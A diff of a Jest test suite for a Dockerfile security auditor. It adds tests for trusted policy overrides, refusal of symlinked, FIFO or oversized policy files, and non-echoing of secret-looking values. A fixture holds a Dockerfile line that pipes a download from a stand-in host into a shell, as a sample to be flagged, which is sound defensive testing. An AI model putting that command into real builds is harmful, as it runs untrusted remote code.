@@ -1,6 +1,8 @@
 import { describe, expect, it } from '@jest/globals';
-import { readFileSync } from 'node:fs';
+import { execFileSync } from 'node:child_process';
+import { readFileSync, symlinkSync } from 'node:fs';
 import { join } from 'node:path';
+import { unreadableFix } from '../../lib/policy/rules/meta/unreadable-file.js';
 import { run, tempRepo } from './helpers.js';
 
 const BAD_DF = 'FROM node:22-alpine\nRUN curl -s https://x.example | sh\n';
@@ -94,6 +96,97 @@ describe('secure-container audit', () => {
     expect(c.err).toContain('--config');
   });
 
+  describe('repository policy vs a trusted policy (--policy, --no-repo-policy)', () => {
+    // the audited repository's own file turns the gate off
+    const LAX = 'failOn: none\nrules:\n  SC1008: off\n';
+    const STRICT = 'failOn: warning\n';
+
+    it('by default the repository\'s .secure-container.yaml applies, failOn: none included', async () => {
+      const dir = tempRepo({ Dockerfile: BAD_DF, '.secure-container.yaml': LAX });
+      const r = await run(['--format', 'json'], dir);
+      expect(r.code).toBe(0);
+      expect(JSON.parse(r.out).summary.failOn).toBe('none');
+    });
+
+    it('--policy <file> replaces it (the repository file is ignored, and a note says so)', async () => {
+      const dir = tempRepo({ Dockerfile: BAD_DF, '.secure-container.yaml': LAX });
+      const ci = tempRepo({ 'policy.yaml': STRICT });
+      const r = await run(['--policy', join(ci, 'policy.yaml'), '--format', 'json'], dir);
+      expect(r.code).toBe(1);
+      const doc = JSON.parse(r.out);
+      expect(doc.summary.failOn).toBe('warning');
+      expect(doc.files[0].findings.some((x: { rule: string }) => x.rule === 'SC1008')).toBe(true);
+      expect(r.err).toMatch(/^secure-container audit: note: \.secure-container\.yaml in the repository is ignored \(policy from --policy .*policy\.yaml\)$/m);
+      // text output too; the note is on stderr, so JSON/SARIF on stdout stay valid
+      const t = await run(['--policy', join(ci, 'policy.yaml')], dir);
+      expect(t.code).toBe(1);
+      expect(t.err).toMatch(/is ignored/);
+      const sarif = await run(['--policy', join(ci, 'policy.yaml'), '--format', 'sarif'], dir);
+      expect(() => JSON.parse(sarif.out)).not.toThrow();
+    });
+
+    it('--no-repo-policy: defaults, the repository file ignored (and said so); no note when there is none', async () => {
+      const dir = tempRepo({ Dockerfile: BAD_DF, '.secure-container.yml': LAX });
+      const r = await run(['--no-repo-policy', '--format', 'json'], dir);
+      expect(r.code).toBe(1);
+      expect(JSON.parse(r.out).summary.failOn).toBe('error');
+      expect(r.err).toMatch(/note: \.secure-container\.yml in the repository is ignored \(--no-repo-policy: default policy\)/);
+      const clean = tempRepo({ Dockerfile: BAD_DF });
+      const c = await run(['--no-repo-policy'], clean);
+      expect(c.code).toBe(1);
+      expect(c.err).toBe('');
+      // even a broken repository file does not matter then
+      const broken = tempRepo({ Dockerfile: BAD_DF, '.secure-container.yaml': 'failOn: [\n' });
+      expect((await run(['--no-repo-policy'], broken)).code).toBe(1);
+      expect((await run([], broken)).code).toBe(2);
+    });
+
+    it('--config is the same option; naming two different files is a usage error', async () => {
+      const dir = tempRepo({ Dockerfile: BAD_DF, '.secure-container.yaml': LAX, 'a.yaml': STRICT, 'b.yaml': STRICT });
+      expect((await run(['--config', 'a.yaml'], dir)).code).toBe(1);
+      expect((await run(['--config', 'a.yaml', '--policy', 'a.yaml'], dir)).code).toBe(1);
+      const r = await run(['--config', 'a.yaml', '--policy', 'b.yaml'], dir);
+      expect(r.code).toBe(2);
+      expect(r.err).toMatch(/--policy and --config name different files/);
+      const missing = await run(['--policy', 'nope.yaml'], dir);
+      expect(missing.code).toBe(2);
+      expect(missing.err).toMatch(/--policy: .*nope\.yaml: does not exist/);
+    });
+
+    it('the repository file is read as a regular file of at most 1 MiB, never through a link; values are never echoed', async () => {
+      const outside = tempRepo({ 'lax.yaml': LAX });
+      const link = tempRepo({ Dockerfile: BAD_DF });
+      symlinkSync(join(outside, 'lax.yaml'), join(link, '.secure-container.yaml'));
+      const l = await run([], link);
+      expect(l.code).toBe(2);
+      expect(l.err).toMatch(/\.secure-container\.yaml: is a symbolic link: a policy file must be a regular file/);
+      expect(l.err).toMatch(/--no-repo-policy or --policy <file> ignores it/);
+      // a trusted --policy may be a link (CI's own file)
+      expect((await run(['--policy', join(link, '.secure-container.yaml')], link)).code).toBe(0);
+
+      const fifo = tempRepo({ Dockerfile: BAD_DF });
+      execFileSync('mkfifo', [join(fifo, '.secure-container.yaml')]);
+      const f = await run([], fifo); // must not block on the FIFO
+      expect(f.code).toBe(2);
+      expect(f.err).toMatch(/is not a regular file/);
+
+      const huge = tempRepo({ Dockerfile: BAD_DF, '.secure-container.yaml': 'rules: {}\n' + '#'.repeat(1024 * 1024) + '\n' });
+      const h = await run([], huge);
+      expect(h.code).toBe(2);
+      expect(h.err).toMatch(/is larger than 1 MiB/);
+
+      const secret = 'SECRET-LOOKING-VALUE-123';
+      for (const text of [`failOn: ${secret}\n`, `rules:\n  SC1001: ${secret}\n`, `rules: [${secret}\n`, `allowedRegistries: ${secret}\n`]) {
+        const d = tempRepo({ Dockerfile: BAD_DF, '.secure-container.yaml': text });
+        const r = await run([], d);
+        expect(r.code).toBe(2);
+        expect(r.err).not.toContain(secret);
+      }
+      const v = await run([], tempRepo({ Dockerfile: BAD_DF, '.secure-container.yaml': `failOn: ${secret}\n` }));
+      expect(v.err).toContain('failOn: must be one of error, warning, info, none');
+    });
+  });
+
   it('--list-rules prints every rule, as text or JSON', async () => {
     const dir = tempRepo({});
     const t = await run(['--list-rules'], dir);
@@ -135,5 +228,27 @@ describe('secure-container audit', () => {
     expect(msgs).toMatch(/larger than 1 MiB/);
     expect(msgs).toMatch(/not valid UTF-8/);
     expect(code).toBe(1);
+    // each reason gets its own fix: only the encoding problem is told to convert to UTF-8
+    const fixes = doc.files.map((f: { findings: { rule: string; message: string }[] }) => f.findings[0]).filter((x: { rule: string }) => x.rule === 'SC0002');
+    const text = (await run([], dir)).out;
+    expect(text).toMatch(/larger than 1 MiB.*\n\s+fix: Files over 1 MiB are not audited/);
+    expect(text).toMatch(/binary.*\n\s+fix: The file is binary/);
+    expect(text).toMatch(/empty.*\n\s+fix: Write the file, or delete it/);
+    expect(text).toMatch(/not valid UTF-8.*\n\s+fix: Convert the file to UTF-8/);
+    expect(text.match(/fix: Convert the file to UTF-8/g)).toHaveLength(1);
+    expect(fixes).toHaveLength(4);
+  });
+
+  it('SC0002 fixes fit the reason (size, binary, encoding, empty, link, not a regular file, unreadable)', () => {
+    expect(unreadableFix('file is larger than 1 MiB: not audited')).not.toMatch(/UTF-8/);
+    expect(unreadableFix('file is larger than 1 MiB (2000000 bytes): not audited')).toMatch(/over 1 MiB/);
+    expect(unreadableFix('file is binary (contains NUL bytes)')).toMatch(/binary/);
+    expect(unreadableFix('file is not valid UTF-8 (convert it to UTF-8)')).toMatch(/^Convert the file to UTF-8/);
+    expect(unreadableFix('file is empty (whitespace only)')).toMatch(/^Write the file, or delete it/);
+    expect(unreadableFix('file is a symbolic link: not followed')).toMatch(/Symbolic links are not followed/);
+    expect(unreadableFix('file is a FIFO (only regular files are read): not audited')).toMatch(/Only regular files/);
+    expect(unreadableFix('cannot read: EACCES')).toMatch(/readable/);
+    const fixes = ['larger than', 'binary', 'UTF-8', 'empty', 'symbolic link', 'a FIFO (only regular files are read)', 'cannot read: EACCES'].map(unreadableFix);
+    expect(new Set(fixes).size).toBe(fixes.length);
   });
 });
